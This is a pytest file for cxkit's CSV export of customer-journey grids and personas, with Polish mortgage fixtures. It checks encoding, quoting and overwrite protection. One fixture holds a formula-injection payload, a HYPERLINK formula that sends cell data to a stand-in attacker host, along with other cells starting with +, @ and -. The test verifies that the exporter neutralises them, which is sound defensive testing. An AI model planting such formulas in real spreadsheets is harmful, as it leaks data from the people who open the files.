"""`cxkit render -f csv` / `-o mapa.csv`: a journey's grid (a persona's fields) for Google Sheets,
Excel and LibreOffice: a row per aspect, a column per stage, UTF-8 with a byte-order mark, every
field quoted, a cell's entries on lines of their own, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from snapshot_helpers import render_cli

KREDYT = """\
kind: journey
id: kredyt-hipoteczny
name: Kredyt hipoteczny online
persona: ola
lang: pl
stages:
  - id: wniosek
    name: Wniosek online
    goal: =HYPERLINK("http://zly.example/?d="&A1;"Kliknij")
    doing: +48 22 123 45 67 to numer, pod który dzwoni
    thinking: "@SUMA(1+1) czy to w ogóle działa?"
    feeling: "-- czuje się zagubiona"
    emotion: -2
    touchpoints:
      - channel: aplikacja
        description: Formularz wniosku w aplikacji banku
      - channel: e-mail
        description: Potwierdzenie złożenia wniosku
  - id: weryfikacja
    name: Weryfikacja tożsamości
    emotion: 1
    pain_points:
      - Selfie z dowodem odrzucone trzy razy
      - "Nikt nie mówi, \\"co dalej\\""
  - id: decyzja
    name: Decyzja kredytowa
"""

ANNA = """\
kind: negative-persona
id: lowca-promocji
name: Dan Price-Hunter
lang: en
summary: Switches bank for any 100-pound bonus.
reasons:
  - Leaves as soon as the bonus is paid [survey-2026]
  - Never uses the overdraft
substitutes:
  - Whatever bank pays the biggest switching bonus this month
sources:
  - id: survey-2026
    type: survey
    date: 2026-03-02
    n: 412
"""


@pytest.fixture()
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "journeys").mkdir(parents=True)
    (root / "personas").mkdir()
    (root / "cxkit.toml").write_text("", encoding="utf-8")
    (root / "journeys" / "kredyt.yaml").write_text(KREDYT, encoding="utf-8")
    (root / "personas" / "lowca.yaml").write_text(ANNA, encoding="utf-8")
    return root


def _rows(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:10]  # the byte-order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_a_polish_journey_is_its_grid_with_polish_labels(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, out, err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-o", "mapa.csv")
    assert (code, out, err) == (0, "", "")
    raw = (workspace / "mapa.csv").read_bytes()
    rows = _rows(raw)
    assert rows[0] == ["Etap", "1. Wniosek online", "2. Weryfikacja tożsamości", "3. Decyzja kredytowa"]
    by_label = {row[0]: row[1:] for row in rows[1:]}
    # (session 40: the emotions as numbers, the journey and its persona follow the aspects' rows)
    assert list(by_label) == ["Cel", "Punkty styku", "Działania", "Myśli", "Odczucia", "Emocje", "Problemy",
                              "Emocje (od -2 do +2)", "Ścieżka", "Persona"]
    assert all(len(row) == 4 for row in rows)
    assert by_label["Emocje"] == ["bardzo źle (-2)", "dobrze (+1)", "emocji nie zapisano"]
    assert by_label["Punkty styku"][0] == ("• aplikacja: Formularz wniosku w aplikacji banku\n"
                                           "• e-mail: Potwierdzenie złożenia wniosku")
    assert by_label["Problemy"] == ["", '• Selfie z dowodem odrzucone trzy razy\n• Nikt nie mówi, "co dalej"', ""]
    # Every field quoted (as csv.QUOTE_ALL writes it back), rows ended by CR LF, breaks in a cell LF.
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    assert raw.decode("utf-8-sig") == again.getvalue()


def test_no_cell_runs_as_a_formula(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, out, _err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-f", "csv")
    assert code == 0
    rows = _rows(out.encode("utf-8"))
    # cxkit's own row of emotions as numbers ("-2") is a number, not a formula: written bare (session 40)
    numbers = [row for row in rows if row[0] == "Emocje (od -2 do +2)"]
    assert len(numbers) == 1 and all(c == "" or c.lstrip("-").isdigit() for c in numbers[0][1:]), numbers
    cells = [cell for row in rows if row[0] != "Emocje (od -2 do +2)" for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    by_label = {row[0]: row[1] for row in rows[1:]}
    assert by_label["Cel"] == "'=HYPERLINK(\"http://zly.example/?d=\"&A1;\"Kliknij\")"
    assert by_label["Działania"] == "'+48 22 123 45 67 to numer, pod który dzwoni"
    assert by_label["Myśli"] == "'@SUMA(1+1) czy to w ogóle działa?"
    assert by_label["Odczucia"] == "'-- czuje się zagubiona"


def test_stages_keep_their_numbers_in_the_journey(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, out, _err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-f", "csv", "--stage", "3,2")
    assert code == 0
    assert _rows(out.encode("utf-8"))[0] == ["Etap", "2. Weryfikacja tożsamości", "3. Decyzja kredytowa"]


def test_a_negative_persona_is_a_table_of_fields_and_values(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, _out, _err = render_cli(workspace, monkeypatch, "personas/lowca.yaml", "-o", "lowca.csv")
    assert code == 0
    rows = _rows((workspace / "lowca.csv").read_bytes())
    assert all(len(row) == 2 for row in rows)
    assert rows[:3] == [["Negative persona", "Dan Price-Hunter"], ["Id", "lowca-promocji"], ["Reviewed", "never"]]
    fields = dict(rows)
    assert fields["Summary"] == "Switches bank for any 100-pound bonus."
    assert fields["Why not our audience"] == ("• Leaves as soon as the bonus is paid [survey-2026]\n"
                                              "• Never uses the overdraft")
    assert fields["Sources"] == "survey-2026 · survey · 2026-03-02 · n=412"


def test_a_folder_or_a_pair_is_refused_and_nothing_written(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    code, out, err = render_cli(workspace, monkeypatch, "journeys", "-o", "wszystko.csv")
    assert (code, out) == (2, "")
    assert err.startswith("cxkit: the CSV export is one document's table (a journey's grid, a persona's fields); "
                          "give a file, not a folder"), err
    assert not (workspace / "wszystko.csv").exists()
    (workspace / "personas" / "ola.yaml").write_text("kind: persona\nid: ola\nname: Ola\n", encoding="utf-8")
    code, _out, err = render_cli(workspace, monkeypatch, "personas/ola.yaml", "--against", "personas/lowca.yaml", "-f", "csv")
    assert code == 2 and "the CSV export is one document's table" in err, err


def test_a_hand_made_csv_is_replaced_only_with_force(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = workspace / "budzet.csv"
    sheet = "\ufeffEtap,Koszt\r\n1,200\r\n".encode()  # Excel's "CSV UTF-8" of someone's own sheet
    target.write_bytes(sheet)
    code, _out, err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-o", "budzet.csv")
    assert code == 2 and "budzet.csv: is not a previous cxkit export" in err and "--force" in err, err
    assert target.read_bytes() == sheet
    # A previous CSV export, Polish or English, is replaced as it is.
    for path in ("journeys/kredyt.yaml", "personas/lowca.yaml", "journeys/kredyt.yaml"):
        code, _out, err = render_cli(workspace, monkeypatch, path, "-o", "mapa.csv")
        assert (code, err) == (0, ""), err
    # ...but not by another format without --force, nor a CSV export by HTML.
    code, _out, err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-f", "html", "-o", "mapa.csv")
    assert code == 2 and "is a cxkit CSV export, not the HTML export this writes" in err, err
    code, _out, _err = render_cli(workspace, monkeypatch, "journeys/kredyt.yaml", "-o", "budzet.csv", "--force")
    assert code == 0 and _rows(target.read_bytes())[0][0] == "Etap"
